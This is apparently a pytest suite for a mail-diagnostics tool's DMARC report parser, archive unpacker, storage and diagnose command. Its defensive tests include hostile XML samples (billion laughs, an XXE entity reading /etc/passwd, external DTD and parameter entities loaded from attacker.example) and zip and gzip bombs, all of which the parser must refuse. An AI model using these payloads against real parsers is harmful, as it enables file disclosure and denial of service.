"""DMARC aggregate reports: parsing (parsers/dmarc.py), bounded unpacking (parsers/archives.py),
finding reports in mail (parsers/report_mail.py), storing (pipeline/aggregate_reports.py), the
`reports ingest` command and the DMARC findings of `diagnose`.

Reports are written by tests/report_samples.py in several receivers' layouts."""

from __future__ import annotations

import dataclasses
import gzip
import io
import ipaddress
import json
import mailbox
import random
import subprocess
import sys
import tracemalloc
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from unittest import mock

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from mtalens.parsers import dmarc
from mtalens.parsers.archives import Limits, unpack
from mtalens.parsers.dmarc import DmarcRecord, DmarcReport, ReportFormat, parse_aggregate
from mtalens.parsers.errors import ParseError
from mtalens.parsers.report_mail import find_reports
from mtalens.pipeline.aggregate_reports import ingest_reports, report_key
from mtalens.pipeline.cli import app, run
from mtalens.pipeline.diagnose import REPORT_DETECTORS, Context, Severity, diagnose
from mtalens.pipeline.store import Store
from mtalens.pipeline.timerange import EPOCH, FAR_FUTURE
from tests.report_samples import (
    LAYOUTS,
    Rec,
    Report,
    filename,
    gzipped,
    report_mail,
    zipped,
)

BEGIN = int(datetime(2026, 5, 7, tzinfo=UTC).timestamp())
END = BEGIN + 86399
NOW = datetime(2026, 5, 9, tzinfo=UTC)
runner = CliRunner()

RECORDS = (
    Rec(
        "192.0.2.10",
        120,
        envelope_from="example.com",
        envelope_to="receiver.example",
        dkim_auth=[("example.com", "s2026", "pass")],
        spf_auth=[("example.com", "mfrom", "pass")],
    ),
    Rec(
        "2001:DB8::25",
        4,
        dkim="fail",
        spf="fail",
        envelope_from="lists.example.org",
        dkim_auth=[("example.com", "s2026", "fail"), ("lists.example.org", "l1", "pass")],
        spf_auth=[("lists.example.org", "mfrom", "pass")],
        reasons=[("mailing_list", "list at example.org")],
    ),
    Rec(
        "198.51.100.7",
        9,
        disposition="none",
        dkim="fail",
        spf="fail",
        envelope_from="spoof.example.net",
        spf_auth=[("spoof.example.net", "mfrom", "softfail")],
    ),
)


def sample(org: str = "google.com", rid: str = "r-1", **kw: object) -> Report:
    args: dict[str, object] = {
        "org": org,
        "report_id": rid,
        "begin": BEGIN,
        "end": END,
        "records": RECORDS,
    }
    args.update(kw)
    return Report(**args)  # type: ignore[arg-type]


def parse(data: bytes | list[bytes]) -> tuple[DmarcReport, list[DmarcRecord]]:
    items = list(parse_aggregate([data] if isinstance(data, bytes) else data))
    head = items[0]
    assert isinstance(head, DmarcReport)
    recs = [i for i in items[1:] if isinstance(i, DmarcRecord)]
    assert len(recs) == len(items) - 1
    return head, recs


# --------------------------------------------------------------------------------------------
# Parsing: every layout gives back what was written


@pytest.fixture(params=["whole", "streamed"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Run a test with reports parsed in one go and, with a tiny threshold, streamed."""
    if request.param == "streamed":
        monkeypatch.setattr(dmarc, "WHOLE_REPORT", 64)
    return str(request.param)


@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_layouts_parse_to_what_was_written(layout: str, mode: str) -> None:
    r = sample(org=f"{layout}.example", rid=f"{layout}-42", p="quarantine", sp="reject")
    head, recs = parse(LAYOUTS[layout](r))
    assert head.org_name == r.org
    assert head.report_id == r.report_id
    assert head.begin == datetime.fromtimestamp(BEGIN, UTC)
    assert head.end == datetime.fromtimestamp(END, UTC)
    assert head.policy.domain == r.domain
    assert head.policy.p == "quarantine"
    assert head.format is (ReportFormat.DMARCBIS if layout == "dmarcbis" else ReportFormat.RFC7489)
    if layout != "yahoo":  # Yahoo's layout leaves sp out
        assert head.policy.sp == "reject"
    assert len(recs) == len(RECORDS)
    for got, want in zip(recs, RECORDS, strict=True):
        assert got.source_ip == str(ipaddress.ip_address(want.ip))
        assert got.count == want.count
        assert got.disposition == want.disposition
        assert (got.dkim, got.spf) == (want.dkim, want.spf)
        assert got.header_from == want.header_from
        assert [(d.domain, d.selector, d.result) for d in got.dkim_results] == [
            (d, s, res) for d, s, res in want.dkim_auth
        ]
        assert [(s.domain, s.result) for s in got.spf_results] == [
            (d, res) for d, _, res in want.spf_auth
        ]
        if layout in ("microsoft", "mailru", "dmarcbis"):
            assert got.envelope_from == want.envelope_from
        if layout in ("google", "microsoft", "mailru"):
            assert [(o.type, o.comment) for o in got.reasons] == list(want.reasons)


def test_optional_fields_of_each_reporter() -> None:
    r = sample()
    ms, _ = parse(LAYOUTS["microsoft"](r))
    assert (ms.version, ms.policy.fo, ms.policy.pct) == ("1.0", "0", 100)
    _, ms_recs = parse(LAYOUTS["microsoft"](r))
    assert ms_recs[0].envelope_to == "receiver.example"
    assert [s.scope for s in ms_recs[0].spf_results] == ["mfrom"]
    g, _ = parse(LAYOUTS["google"](r))
    assert g.version is None and g.extra_contact_info and g.extra_contact_info.startswith("https:")
    _, y_recs = parse(LAYOUTS["yahoo"](r))
    assert y_recs[0].dkim_results[0].human_result == "sig pass"
    mr, _ = parse(LAYOUTS["mailru"](r))
    assert mr.errors == ("record for example.net skipped: too large",)
    bis, bis_recs = parse(LAYOUTS["dmarcbis"](r))
    assert (bis.generator, bis.policy.np, bis.policy.testing, bis.policy.discovery_method) == (
        "ExampleMTA 4.2",
        "reject",
        "n",
        "treewalk",
    )
    assert bis.policy.pct is None
    # the <record> inside <extension> is not a record
    assert len(bis_recs) == len(RECORDS)


def _shuffled(data: bytes, seed: int) -> bytes:
    rnd = random.Random(seed)
    root = ET.fromstring(data)  # our own sample: no DTD

    def shuffle(el: ET.Element) -> None:
        # siblings change places; repeated ones (two <dkim>, many <record>) keep their order
        kids = list(el)
        tags = [k.tag for k in kids]
        rnd.shuffle(tags)
        queues: dict[str, list[ET.Element]] = {}
        for k in kids:
            queues.setdefault(k.tag, []).append(k)
        for k in kids:
            el.remove(k)
        for tag in tags:
            k = queues[tag].pop(0)
            shuffle(k)
            el.append(k)

    shuffle(root)
    return ET.tostring(root)


@pytest.mark.parametrize("seed", range(6))
@pytest.mark.parametrize("layout", ["google", "dmarcbis"])
def test_element_order_is_free(layout: str, seed: int, mode: str) -> None:
    data = LAYOUTS[layout](sample())
    head, recs = parse(data)
    shuffled = _shuffled(data, seed)
    assert shuffled != ET.tostring(ET.fromstring(data))
    head2, recs2 = parse(shuffled)
    order = [k.tag.rpartition("}")[2] for k in ET.fromstring(shuffled)]
    if "version" in order and order.index("version") > order.index("record"):
        # documented: a <version> after the first record is not part of the head
        head2 = dataclasses.replace(head2, version=head.version)
    assert (head2, recs2) == (head, recs)


@settings(max_examples=60, deadline=None)
@given(cuts=st.lists(st.integers(min_value=0, max_value=4000), max_size=12))
def test_any_chunking_parses_the_same(cuts: list[int]) -> None:
    data = LAYOUTS["microsoft"](sample())
    points = sorted({min(c, len(data)) for c in cuts})
    chunks = [data[a:b] for a, b in zip([0, *points], [*points, len(data)], strict=True)]
    whole = parse(data)
    assert parse(chunks) == whole
    with mock.patch.object(dmarc, "WHOLE_REPORT", 100):  # streamed, whatever the chunks
        assert parse(chunks) == whole


_STREAM_PROBE = """
import resource, sys
from mtalens.parsers.dmarc import DmarcRecord, parse_aggregate

n = int(sys.argv[1])


def chunks():
    yield (
        b"<feedback><report_metadata><org_name>big.example</org_name><email>a@b</email>"
        b"<report_id>big-1</report_id><date_range><begin>1</begin><end>2</end></date_range>"
        b"</report_metadata><policy_published><domain>example.com</domain><p>none</p>"
        b"</policy_published>"
    )
    buf = []
    for i in range(n):
        buf.append(
            f"<record><row><source_ip>10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}</source_ip>"
            f"<count>{i % 7 + 1}</count><policy_evaluated><disposition>none</disposition>"
            "<dkim>pass</dkim><spf>fail</spf></policy_evaluated></row><identifiers>"
            "<header_from>example.com</header_from></identifiers><auth_results><dkim>"
            "<domain>example.com</domain><selector>s1</selector><result>pass</result></dkim>"
            "<spf><domain>example.com</domain><result>fail</result></spf></auth_results>"
            "</record>"
        )
        if len(buf) == 500:
            yield "".join(buf).encode()
            buf = []
    yield "".join(buf).encode() + b"</feedback>"


count = messages = 0
for item in parse_aggregate(chunks()):
    if isinstance(item, DmarcRecord):
        count += 1
        messages += item.count
print(count, messages, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def _probe(n: int) -> tuple[int, int, int]:
    out = subprocess.run(
        [sys.executable, "-c", _STREAM_PROBE, str(n)], capture_output=True, text=True, check=True
    ).stdout.split()
    return int(out[0]), int(out[1]), int(out[2]) * 1024


def test_large_report_streams_in_bounded_memory() -> None:
    n = 100_000  # about 45 MB of XML
    count, messages, rss = _probe(n)
    assert count == n
    assert messages == sum(i % 7 + 1 for i in range(n))
    _, _, rss_small = _probe(1_000)
    # holding the parsed tree would cost far more than the XML itself; streaming costs a few
    # chunks' worth whatever the size
    assert rss - rss_small < 24 << 20, (rss, rss_small)


# --------------------------------------------------------------------------------------------
# Hostile and broken XML: refused with a reason, never expanded

LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n<feedback><report_metadata><org_name>&lol9;</org_name></report_metadata></feedback>"
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>"
)
EXTERNAL_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE feedback SYSTEM "http://attacker.example/evil.dtd"><feedback/>'
)
PARAM_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
    b"<feedback/>"
)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (LAUGHS, "xml-declaration-refused"),
        (XXE, "xml-declaration-refused"),
        (EXTERNAL_DTD, "xml-declaration-refused"),
        (PARAM_ENTITY, "xml-declaration-refused"),
        (b"<!doctype feedback><feedback/>", "xml-declaration-refused"),
        (b"<feedback><!-- <!DOCTYPE x> --></feedback>", "xml-declaration-refused"),
        (
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><feedback/>'.encode("utf-16"),
            "xml-encoding-refused",
        ),
        (
            b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<feedback/>',
            "xml-encoding-refused",
        ),
        (b"<feedback>&undefined;</feedback>", "bad-xml"),
        (b"this is not xml at all", "bad-xml"),
        (b"", "bad-xml"),
        (b"<html><body>hello</body></html>", "not-dmarc"),
        (b'<feedback xmlns="urn:example:other"/>', "not-dmarc"),
    ],
)
def test_hostile_or_broken_xml_is_refused(data: bytes, code: str, mode: str) -> None:
    with pytest.raises(ParseError) as err:
        list(parse_aggregate([data]))
    assert err.value.code == code


def test_doctype_split_across_chunks_is_refused(mode: str) -> None:
    with pytest.raises(ParseError) as err:
        list(parse_aggregate([bytes([b]) for b in XXE]))
    assert err.value.code == "xml-declaration-refused"


def test_comments_and_cdata_are_fine() -> None:
    data = (
        LAYOUTS["google"](sample())
        .replace(b"<feedback>", b"<feedback><!-- made by a reporter -->")
        .replace(b"<org_name>google.com", b"<org_name><![CDATA[google.com]]>")
    )
    head, recs = parse(data)
    assert head.org_name == "google.com" and len(recs) == len(RECORDS)


def _mutate(old: bytes, new: bytes) -> bytes:
    data = LAYOUTS["google"](sample())
    assert old in data
    return data.replace(old, new, 1)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (LAYOUTS["google"](sample())[:700], "bad-xml"),
        (_mutate(b"<report_id>r-1</report_id>", b""), "dmarc-missing-field"),
        (
            _mutate(b"<org_name>google.com</org_name>", b"<org_name> </org_name>"),
            "dmarc-missing-field",
        ),
        (_mutate(b"<source_ip>192.0.2.10", b"<source_ip>192.0.2.300"), "dmarc-bad-value"),
        (_mutate(b"<count>120</count>", b"<count>-3</count>"), "dmarc-bad-value"),
        (_mutate(b"<count>120</count>", b"<count>many</count>"), "dmarc-bad-value"),
        (_mutate(f"<begin>{BEGIN}".encode(), f"<begin>{END + 10}".encode()), "dmarc-bad-value"),
        (_mutate(b"<disposition>none</disposition>", b""), "dmarc-missing-field"),
        (
            _mutate(b"<policy_published><domain>example.com</domain>", b"<policy_published>"),
            "dmarc-missing-field",
        ),
    ],
)
def test_malformed_reports_name_the_problem(data: bytes, code: str, mode: str) -> None:
    with pytest.raises(ParseError) as err:
        list(parse_aggregate([data]))
    assert err.value.code == code


# --------------------------------------------------------------------------------------------
# Bounded unpacking


def _payload(data: bytes, limits: Limits | None = None) -> list[tuple[str, bytes]]:
    kw = {"limits": limits} if limits else {}
    return [(m.name, b"".join(m.chunks)) for m in unpack(data, name="in", **kw)]


def _zip_members(members: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    out = bytearray(buf.getvalue())
    if encrypted:  # set bit 0 of the flags (APPNOTE 4.4.4) in the local and central headers
        for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = out.find(sig)
            out[pos + at] |= 0x1
    return bytes(out)


def _noise(n: int, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(n)


def test_archives_unwrap_to_the_report() -> None:
    xml = LAYOUTS["google"](sample())
    assert _payload(xml) == [("in", xml)]
    assert _payload(gzipped(xml)) == [("in", xml)]
    assert _payload(zipped("r.xml", xml)) == [("in/r.xml", xml)]
    assert _payload(zipped("r.xml.gz", gzipped(xml))) == [("in/r.xml", xml)]  # two layers
    # concatenated gzip members (RFC 1952 section 2.2) are one stream
    assert _payload(gzipped(xml[:100]) + gzipped(xml[100:])) == [("in", xml)]


@pytest.mark.parametrize(
    ("data", "limits", "code"),
    [
        (
            zipped("z.zip", zipped("y.zip", zipped("r.xml", b"<feedback/>"))),
            None,
            "archive-nested-too-deep",
        ),
        (gzipped(gzipped(gzipped(b"<feedback/>"))), None, "archive-nested-too-deep"),
        (zipped("bomb.xml", bytes(64 << 20)), None, "zip-bomb"),
        (gzipped(bytes(64 << 20)), None, "zip-bomb"),
        (zipped("huge.xml", _noise(3 << 20)), Limits(max_member=1 << 20), "member-too-large"),
        (gzipped(_noise(3 << 20)), Limits(max_member=1 << 20), "member-too-large"),
        (
            _zip_members({f"r{i}.xml": _noise(600 << 10, i) for i in range(3)}),
            Limits(max_total=1 << 20),
            "archive-too-large",
        ),
        (
            _zip_members({f"r{i}.xml": b"<feedback/>" for i in range(20)}),
            None,
            "zip-too-many-members",
        ),
        (_zip_members({"r.xml": b"<feedback/>"}, encrypted=True), None, "encrypted-zip"),
        (gzipped(_noise(50_000))[:20_000], None, "truncated-gzip"),
        (gzipped(b"<feedback/>" * 100)[:-4], None, "truncated-gzip"),
        (b"\x1f\x8b\x08\x00" + b"\xff" * 40, None, "bad-gzip"),
        (gzipped(b"<feedback/>") + b"trailing junk", None, "bad-gzip"),
        (b"PK\x03\x04" + b"\x00" * 60, None, "bad-zip"),
        (zipped("r.xml", b"<feedback/>" * 500)[:-30], None, "bad-zip"),
    ],
    ids=[
        "nested-zip",
        "nested-gzip",
        "zip-bomb",
        "gzip-bomb",
        "huge-zip-member",
        "huge-gzip-member",
        "total-cap",
        "too-many-members",
        "encrypted",
        "truncated-gzip",
        "gzip-without-trailer",
        "corrupt-gzip",
        "gzip-trailing-junk",
        "bad-zip",
        "cut-zip",
    ],
)
def test_hostile_archives_are_refused(data: bytes, limits: Limits | None, code: str) -> None:
    with pytest.raises(ParseError) as err:
        _payload(data, limits)
    assert err.value.code == code


def test_bomb_is_refused_before_it_is_expanded() -> None:
    bomb = gzipped(bytes(256 << 20))  # 256 MB of zeros in about 250 kB
    tracemalloc.start()
    try:
        with pytest.raises(ParseError):
            _payload(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 << 20, peak


# --------------------------------------------------------------------------------------------
# Reports in mail


@pytest.mark.parametrize(
    ("content_type", "wrap", "ext"),
    [
        ("application/zip", lambda n, d: zipped(n, d), "zip"),
        ("application/gzip", lambda n, d: gzipped(d), "xml.gz"),
        ("application/x-gzip", lambda n, d: gzipped(d), "xml.gz"),
        ("text/xml", lambda n, d: d, "xml"),
        ("application/octet-stream", lambda n, d: zipped(n, d), "zip"),
    ],
)
def test_report_attachment_is_found(content_type: str, wrap: object, ext: str) -> None:
    r = sample()
    xml = LAYOUTS["google"](r)
    data = wrap(filename(r, "xml"), xml)  # type: ignore[operator]
    raw = report_mail(data, name=filename(r, ext), content_type=content_type)
    found = find_reports(raw)
    assert [a.name for a in found] == [filename(r, ext)]
    assert found[0].data == data


def test_mail_without_report_is_refused() -> None:
    raw = b"From: a@example.org\nSubject: please confirm\n\nhello\n"
    with pytest.raises(ParseError) as err:
        find_reports(raw)
    assert err.value.code == "not-a-report"
    assert "please confirm" in err.value.detail


# --------------------------------------------------------------------------------------------
# The store


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store.open(tmp_path / "r.duckdb") as s:
        yield s


def _ingest(store: Store, *paths: Path, **kw: object):  # type: ignore[no-untyped-def]
    return ingest_reports(store, paths, now=lambda: NOW, **kw)  # type: ignore[arg-type]


def _q(store: Store, sql: str) -> list[tuple[object, ...]]:
    return store.con.execute(sql).fetchall()


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _maildir(root: Path, messages: list[bytes]) -> Path:
    md = mailbox.Maildir(root, create=True)
    for m in messages:
        md.add(m)
    return root


def test_every_layout_lands_in_the_views(store: Store, tmp_path: Path) -> None:
    wrappers = {
        "google": ("zip", lambda r, d: zipped(filename(r, "xml"), d)),
        "microsoft": ("xml.gz", lambda r, d: gzipped(d)),
        "yahoo": ("xml", lambda r, d: d),
        "mailru": ("xml.gz", lambda r, d: gzipped(d)),
        "dmarcbis": ("zip", lambda r, d: zipped(filename(r, "xml"), d)),
    }
    for layout, (ext, wrap) in wrappers.items():
        r = sample(org=f"{layout}.example", rid=f"id-{layout}")
        (tmp_path / "in").mkdir(exist_ok=True)
        _write(tmp_path / "in" / filename(r, ext), wrap(r, LAYOUTS[layout](r)))
    res = _ingest(store, tmp_path / "in")
    assert (res.dmarc_reports, res.quarantined, res.duplicates) == (5, 0, 0)
    rows = _q(
        store,
        "SELECT reporter, report_id, domain, p, records, messages FROM dmarc_reports ORDER BY 1",
    )
    total = sum(x.count for x in RECORDS)
    assert rows == [
        (f"{lay}.example", f"id-{lay}", "example.com", "none", len(RECORDS), total)
        for lay in sorted(wrappers)
    ]
    recs = _q(
        store,
        "SELECT source_ip, sum(count), bool_and(dkim_aligned), bool_and(spf_aligned), "
        "bool_and(dmarc_pass), count(DISTINCT reporter) FROM dmarc_records GROUP BY 1 ORDER BY 1",
    )
    expect = sorted(
        (str(ipaddress.ip_address(x.ip)), x.count * 5, x.dkim == "pass", x.spf == "pass",
         x.dkim == "pass" or x.spf == "pass", 5)
        for x in RECORDS
    )  # fmt: skip
    assert recs == expect
    sel = _q(
        store,
        "SELECT DISTINCT dkim_domains, dkim_selectors, header_from FROM dmarc_records "
        "WHERE source_ip = '2001:db8::25'",
    )
    assert sel == [(["example.com", "lists.example.org"], ["s2026", "l1"], "example.com")]


def test_report_section_per_source(store: Store, tmp_path: Path) -> None:
    from mtalens.pipeline.reports import report

    r = sample(org="google.example", rid="id-report")
    _ingest(store, _write(tmp_path / filename(r, "xml"), LAYOUTS["yahoo"](r)))
    (t,) = report(store, since=datetime(1970, 1, 1, tzinfo=UTC),
                  until=datetime(9999, 1, 1, tzinfo=UTC), sections=("dmarc_sources",))  # fmt: skip
    rows = {str(x["source_ip"]): x for x in t.records()}
    assert set(rows) == {str(ipaddress.ip_address(x.ip)) for x in RECORDS}
    for x in RECORDS:
        row = rows[str(ipaddress.ip_address(x.ip))]
        passed = x.dkim == "pass" or x.spf == "pass"
        assert row["messages"] == x.count and row["dmarc_pass_pct"] == (100.0 if passed else 0.0)
    (none,) = report(store, since=datetime(1970, 1, 1, tzinfo=UTC),
                     until=datetime(1971, 1, 1, tzinfo=UTC), sections=("dmarc_sources",))  # fmt: skip
    assert none.rows == []  # the report's days are outside that range


def test_mailboxes_and_duplicates(store: Store, tmp_path: Path) -> None:
    r1, r2 = sample(rid="a-1"), sample(rid="a-2")
    m1 = report_mail(
        zipped("a.xml", LAYOUTS["google"](r1)),
        name=filename(r1, "zip"),
        content_type="application/zip",
    )
    m2 = report_mail(
        gzipped(LAYOUTS["google"](r2)), name=filename(r2, "xml.gz"), content_type="application/gzip"
    )
    md = _maildir(tmp_path / "Maildir", [m1, m2])
    mbox_path = tmp_path / "reports.mbox"
    box = mailbox.mbox(mbox_path)
    box.add(m1)
    box.close()
    eml = _write(tmp_path / "one.eml", m2)
    bare = _write(tmp_path / "same.xml", LAYOUTS["google"](r1))
    res = _ingest(store, md, mbox_path, eml, bare)
    assert res.inputs == 5
    assert (res.dmarc_reports, res.duplicates, res.quarantined) == (2, 3, 0)
    assert _q(store, "SELECT count(*), sum(records) FROM dmarc_reports") == [(2, 2 * len(RECORDS))]
    assert _q(store, "SELECT count(*) FROM dmarc_record_log") == [(2 * len(RECORDS),)]
    # a second run stores nothing more
    again = _ingest(store, md, mbox_path, eml, bare)
    assert (again.dmarc_reports, again.duplicates) == (0, 5)
    assert _q(store, "SELECT count(*) FROM dmarc_record_log") == [(2 * len(RECORDS),)]
    # the same report id from another reporter is another report
    other = _write(tmp_path / "other.xml", LAYOUTS["yahoo"](sample(org="yahoo.com", rid="a-1")))
    assert _ingest(store, other).dmarc_reports == 1
    keys = {k for (k,) in _q(store, "SELECT report_key FROM dmarc_reports")}
    assert report_key("Yahoo.com ", "a-1") in keys


HOSTILE_FILES = {
    "laughs.xml": (LAUGHS, "xml-declaration-refused"),
    "xxe.xml.gz": (gzipped(XXE), "xml-declaration-refused"),
    "bomb.zip": (zipped("bomb.xml", bytes(64 << 20)), "zip-bomb"),
    "nested.zip": (
        zipped("a.zip", zipped("b.zip", zipped("c.xml", b"<feedback/>"))),
        "archive-nested-too-deep",
    ),
    "cut.xml.gz": (gzipped(LAYOUTS["google"](sample(rid="cut")))[:-8], "truncated-gzip"),
    "notxml.xml": (b"<<<>>> definitely & not xml", "bad-xml"),
    "log.gz": (gzipped(b"May  7 10:00:00 mx postfix/smtp[1]: line\n"), "not-a-report"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
def test_hostile_file_becomes_a_quarantine_row(store: Store, tmp_path: Path, name: str) -> None:
    data, reason = HOSTILE_FILES[name]
    path = _write(tmp_path / name, data)
    res = _ingest(store, path)
    assert (res.stored, res.quarantined) == (0, 1)
    rows = _q(store, 'SELECT source, source_kind, reason, "offset", raw FROM quarantine')
    assert rows == [(str(path), "report", reason, 0, data)]
    assert _q(store, "SELECT count(*) FROM dmarc_report_log") == [(0,)]
    _ingest(store, path)  # read again: not quarantined twice
    assert _q(store, "SELECT count(*) FROM quarantine") == [(1,)]


@pytest.mark.parametrize("name", ["laughs.xml", "bomb.zip", "nested.zip", "cut.xml.gz"])
def test_hostile_attachment_quarantines_the_message(
    store: Store, tmp_path: Path, name: str
) -> None:
    data, reason = HOSTILE_FILES[name]
    good = sample(rid="fine")
    msgs = [
        report_mail(data, name=name, content_type="application/octet-stream"),
        report_mail(
            zipped("f.xml", LAYOUTS["google"](good)), name="f.zip", content_type="application/zip"
        ),
    ]
    md = _maildir(tmp_path / "Maildir", msgs)
    res = _ingest(store, md)
    assert (res.inputs, res.dmarc_reports, res.quarantined) == (2, 1, 1)
    rows = _q(store, "SELECT source_kind, reason, raw FROM quarantine")
    assert rows == [("mail", reason, msgs[0])]


def test_large_report_is_streamed_and_rolled_back_when_broken(store: Store, tmp_path: Path) -> None:
    many = tuple(
        Rec(f"203.0.113.{i % 250}", i + 1, dkim_auth=[("example.com", "s", "pass")])
        for i in range(400)
    )
    good = _write(tmp_path / "big.xml", LAYOUTS["google"](sample(rid="big", records=many)))
    broken_xml = LAYOUTS["google"](sample(rid="big-broken", records=many))
    broken = _write(tmp_path / "broken.xml", broken_xml[: len(broken_xml) * 3 // 4])
    res = _ingest(store, good, broken, stream_records=50)
    assert (res.dmarc_reports, res.dmarc_records, res.quarantined) == (1, 400, 1)
    assert _q(store, "SELECT records, messages FROM dmarc_reports") == [(400, sum(range(1, 401)))]
    assert _q(store, "SELECT count(*), min(position), max(position) FROM dmarc_record_log") == [
        (400, 1, 400)
    ]
    assert _q(store, "SELECT reason FROM quarantine") == [("bad-xml",)]
    # duplicates of a streamed report are recognised too
    assert _ingest(store, good, stream_records=50).duplicates == 1
    assert _q(store, "SELECT count(*) FROM dmarc_record_log") == [(400,)]


# --------------------------------------------------------------------------------------------
# The command


def test_cli_ingest_summary_and_exit_codes(tmp_path: Path) -> None:
    db = tmp_path / "c.duckdb"
    good = _write(tmp_path / "g.xml.gz", gzipped(LAYOUTS["google"](sample())))
    res = runner.invoke(app, ["reports", "ingest", "--db", str(db), "--format", "json", str(good)])
    assert res.exit_code == 0, res.output
    out = json.loads(res.stdout)
    assert (out["dmarc_reports"], out["dmarc_records"], out["quarantined"]) == (1, len(RECORDS), 0)
    bad = _write(tmp_path / "x.xml", XXE)
    res = runner.invoke(app, ["reports", "ingest", "--db", str(db), str(good), str(bad)])
    assert res.exit_code == 3
    assert "duplicates 1, quarantined 1" in res.stdout
    assert "quarantined (xml-declaration-refused)" in res.stderr
    assert "Traceback" not in res.stderr + res.stdout


def test_cli_errors_are_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = str(tmp_path / "e.duckdb")
    bad = _write(tmp_path / "bomb.zip", HOSTILE_FILES["bomb.zip"][0])
    assert run(["reports", "ingest", "--db", db, str(bad)]) == 2  # nothing usable
    assert run(["reports", "ingest", "--db", db, str(tmp_path / "missing.xml")]) == 2
    good = _write(tmp_path / "g.xml", LAYOUTS["yahoo"](sample()))
    assert run(["reports", "ingest", "--db", db, str(good), str(tmp_path / "missing")]) == 3
    assert run(["reports", "ingest", "--db", db, "--format", "yaml", str(good)]) == 2
    assert run(["reports", "ingest", "--db", str(tmp_path / "no" / "dir.duckdb"), str(good)]) == 2
    assert run(["reports", "ingest", "--db", db]) == 2  # no path
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert f"mtalens: {tmp_path / 'missing.xml'}: no such file or directory" in err
    assert all(line.startswith("mtalens") for line in err.splitlines())


# --------------------------------------------------------------------------------------------
# Diagnose


def _diag_store(tmp_path: Path) -> Path:
    db = tmp_path / "d.duckdb"
    ours_broken = Rec(  # our server: some mail aligned, some not signed and sent with a foreign envelope
        "192.0.2.10", 6, dkim="fail", spf="fail", disposition="quarantine",
        envelope_from="mailer.example.net", spf_auth=[("mailer.example.net", "mfrom", "pass")],
    )  # fmt: skip
    example_com = sample(org="google.com", rid="g-1", records=(*RECORDS, ours_broken))
    clean = sample(
        org="google.com", rid="g-2", domain="example.org",
        records=(
            Rec("192.0.2.20", 50, header_from="example.org", dkim_auth=[("example.org", "k1", "pass")]),
            Rec("192.0.2.21", 7, header_from="example.org", spf="fail", dkim_auth=[("example.org", "k1", "pass")]),
        ),
    )  # fmt: skip
    d = tmp_path / "in"
    d.mkdir()
    _write(d / "a.xml", LAYOUTS["google"](example_com))
    _write(d / "b.xml", LAYOUTS["microsoft"](clean))
    with Store.open(db) as s:
        assert _ingest(s, d).dmarc_reports == 2
    return db


def test_diagnose_tells_dmarc_sources_apart(tmp_path: Path) -> None:
    db = _diag_store(tmp_path)
    with Store.open(db, read_only=True) as s:
        found = diagnose(Context(store=s, since=EPOCH, until=FAR_FUTURE, clock=lambda: NOW))
    by_id = {f.id: f for f in found}
    own = by_id["dmarc-own-servers:example.com/192.0.2.10"]
    assert own.severity is Severity.CRITICAL  # some of our mail was quarantined
    assert own.evidence.count == 6 and own.evidence.fact("messages") == 126
    assert "mailer.example.net" in own.remedy and "SPF" in own.remedy and "DKIM" in own.remedy
    spoof = by_id["dmarc-spoofing:example.com/198.51.100.7"]
    assert spoof.severity is Severity.WARNING  # p=none: delivered
    assert spoof.evidence.count == 9 and "p=quarantine" in spoof.remedy
    fwd = by_id["dmarc-forwarders:example.com/2001:db8::25"]
    assert fwd.severity is Severity.NOTICE and fwd.evidence.count == 4
    ready = by_id["dmarc-policy-ready:example.org"]
    assert ready.evidence.count == 57 and ready.evidence.fact("aligned_sources") == 2
    assert "dmarc-policy-ready:example.com" not in by_id  # our own server does not align yet
    # the report detectors that need DMARC data all found their problem (a registry row
    # without a sample fails here; TLS-RPT's is covered in tests/test_tlsrpt.py)
    problems = {f.problem for f in found}
    assert [
        d.id for d in REPORT_DETECTORS if d.id.startswith("dmarc") and d.id not in problems
    ] == []


def test_our_ips_from_the_command_line_make_a_source_ours(tmp_path: Path) -> None:
    db = _diag_store(tmp_path)
    with Store.open(db, read_only=True) as s:
        ctx = Context(store=s, since=EPOCH, until=FAR_FUTURE, our_ips=("198.51.100.7",))
        ids = {f.id for f in diagnose(ctx)}
    assert "dmarc-own-servers:example.com/198.51.100.7" in ids
    assert "dmarc-spoofing:example.com/198.51.100.7" not in ids


def test_diagnose_range_excludes_other_periods(tmp_path: Path) -> None:
    db = _diag_store(tmp_path)
    with Store.open(db, read_only=True) as s:
        later = datetime(2026, 6, 1, tzinfo=UTC)
        found = diagnose(Context(store=s, since=later, until=FAR_FUTURE))
    assert [f for f in found if f.problem.startswith("dmarc")] == []


